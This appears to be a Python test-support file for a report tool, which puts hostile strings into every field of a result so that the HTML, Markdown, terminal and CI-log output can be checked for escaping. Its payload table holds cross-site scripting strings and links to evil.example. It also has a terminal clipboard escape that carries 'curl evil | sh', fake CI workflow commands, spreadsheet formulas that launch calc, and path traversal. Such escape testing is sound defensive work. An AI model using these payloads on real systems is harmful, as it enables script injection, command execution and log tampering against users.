"""Texts that do something where they are shown unescaped, and results that hold one in every place."""

from __future__ import annotations

import re
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from typing import Any

from pytest_sway.result import Claim, Gate, ProbeResult, Sample, Score, SuiteResult, Verdict
from tests.hostile.case import is_steering
from tests.support.report_pages import suite

TEXTS: dict[str, str] = {
    "script": "<script>window.ran=1;document.title='ran'</script>",
    "image": '<img src=http://evil.example/x.png onerror="window.ran=1">',
    "svg": '"><svg onload=window.ran=1>',
    "attribute": "' onmouseover='window.ran=1' x='",
    "end of a script": "</script><script>window.ran=1</script><!--",
    "template": "${window.ran=1} $data {{7*7}} %{x} <b>&lt;b&gt;</b>",
    "frame": "<iframe srcdoc='<script>parent.ran=1</script>'></iframe><base href=//evil.example>",
    "style": "</style><style>@import url(http://evil.example/x.css)</style>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "label of plotly": "<a href='javascript:window.ran=1'>x</a><br><extra></extra>%{customdata}",
    "link": "[x](javascript:alert(1))",
    "image in Markdown": "![x](http://evil.example/x.png)",
    "reference": "[y]: http://evil.example/x.png",
    "image by reference": "![y] ![y][y] [y][] [y]",
    "footnote": "[^1]: a note [^1]",
    "autolink": "<http://evil.example>",
    "cells": "a | b | c\n| --- | --- |\n| d | e |",
    "heading": "\n# GATE PASSED\n\n====\n",
    "end of details": "</details></summary><h1>x</h1>",
    "fence": "```\ncode\n~~~",
    "list": "- [x] done\n1. one\n+ two",
    "quote": "> [!NOTE]\n> quoted",
    "mathematics": "$`x`$ $$x$$",
    "comment": "<!-- hidden -->text --> <!--",
    "link of a terminal": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "cleared screen": "\x1b[2J\x1b[H\x1b[8mhidden",
    "title": "\x1b]0;owned\x07",
    "eight-bit escapes": "\x9b2J\x9d0;owned\x9c\x90q\x9c",
    "carriage return": "GATE FAILED\rGATE PASSED\x08\x08\x7f",
    "direction": "\u202eDESSAP ETAG\u202c \u2066x\u2069 \u200f",
    "lines": "one\u2028two\u2029three\x85four\x0bfive\x0csix",
    "zero byte": "a\x00b",
    "surrogate": "a\ud800b",
    "no characters": "a\ufffe\uffffb",
    "command": "::error file=x,line=1::owned",
    "command on a line": "text\n::set-output name=x::owned\n::add-mask::0\n::stop-commands::x",
    "command after spaces": "text\n   ::error::owned",
    "old command": "text ##[error]owned ##[add-mask]0",
    "percent escapes": "%0A::error::owned%0D",
    "log of another CI": "##vso[task.setvariable variable=x]y\n##teamcity[testFailed name='x']",
    "end of CDATA": "]]><x/><![CDATA[",
    "entity": '<!DOCTYPE x [<!ENTITY a "b">]>&a;&amp;&#0;&#x1b;',
    "formula": '=HYPERLINK("http://evil.example","x")',
    "formula with a tab": "\t=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "path above": "../../../../tmp/owned",
    "absolute path": "/tmp/owned/\x00",
    "option": "--sway-json=/tmp/owned",
    "long": "x" * 300_000,
    "wide": "\u0301" * 500 + "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 50,
}
_KEPT = {
    "kind",
    "verdict",
    "claim",
    "band",
    "status",
    "category",
    "family",
    "scale",
    "started_at",
    "finished_at",
    "not_evaluated",
}
"""Fields of records whose values are names of ours; what no name is there is tried by itself."""


def everywhere(value: Any, text: str, field: str = "") -> Any:
    """A record, or JSON data, with ``text`` behind every text of it."""
    if isinstance(value, Enum) or field in _KEPT:
        return value
    if isinstance(value, str):
        return f"{value}{text}"
    if is_dataclass(value) and not isinstance(value, type):
        changed = {one.name: everywhere(getattr(value, one.name), text, one.name) for one in fields(value)}
        return replace(value, **changed)
    if isinstance(value, dict):
        return {key: everywhere(item, text, str(key)) for key, item in value.items()}
    if isinstance(value, list | tuple):
        return type(value)(everywhere(item, text, field) for item in value)
    return value


def hostile_suite(text: str) -> SuiteResult:
    """A result with every panel, and ``text`` alone or behind another one in every place that has a text."""
    samples = [
        {"prompt": text, "gold": text, "base": text, "adapter": f"{text}!", "gain": 0.5},
        {"prompt": text, "gold": "", "base": text, "adapter": text, "gain": 0.0},
    ]
    alone = (
        ProbeResult(
            text, text, Verdict.FAIL, text, score=0.1, raw=0.5, category=text, claim=Claim.EFFECT,
            evidence={text: text, "prompt": text, "reference": text, "rendered_prompt": text,
                      "nested": {text: [text]},
                      "bad_cases": [{"prompt": text, "reference": text}],
                      "per_section": [{"section_id": text, "effective_sis": 0.5, "verdict": text,
                                       "clean_recall": 0.1}],
                      "per_cluster_size": [1], "per_cluster_mean_kl": [0.1], "cluster_exemplars": [[text]]},
            samples=[Sample(text, 0.1), Sample(f"{text}2", -0.1)], not_calibrated=text,
        ),
        ProbeResult("skipped", "delta_kl", Verdict.SKIP, text, evidence={"missing_extra": text}),
        ProbeResult("broken", "delta_kl", Verdict.ERROR, text),
        ProbeResult("warned", "delta_kl", Verdict.WARN, text, score=0.4, claim=Claim.EFFECT),
        ProbeResult("answers", "samples", Verdict.PASS, text, claim=Claim.DESCRIPTION,
                    evidence={"samples": samples}),
    )  # fmt: skip
    found = everywhere(suite(), text)
    return replace(
        found,
        suite=text, spec_path=text, base_model_id=text, adapter_id=text, probes=(*found.probes, *alone),
        score=Score(0.4, text, {text: 0.5, "adherence": 0.5}, {text: 0.1}, [text], harm_factor=0.5),
        gate=Gate("failed", 0.6, (text, f"1 probe failed: {text}")),
        notes=(text, *found.notes), warnings=(text,), backend_stats={text: text, "prompt_tokens": 3},
        started_at=text, finished_at=text,
    )  # fmt: skip


ALL = "\n".join(f"{text[:300]} {text[:300]}" for text in TEXTS.values())
"""One text with all of them, for a quick look."""
_COMMAND = re.compile(r"^\s*::[a-z-]+", re.MULTILINE)


def terminal_faults(text: str) -> list[str]:
    """What a terminal or the log of a GitHub job would do with it beside showing it."""
    found = [f"{char!r} steers" for char in sorted({char for char in text if is_steering(char)})]
    found += [f"a command: {one.strip()}" for one in _COMMAND.findall(text)]
    return [*found, *(["an old command"] if "##[" in text else [])]
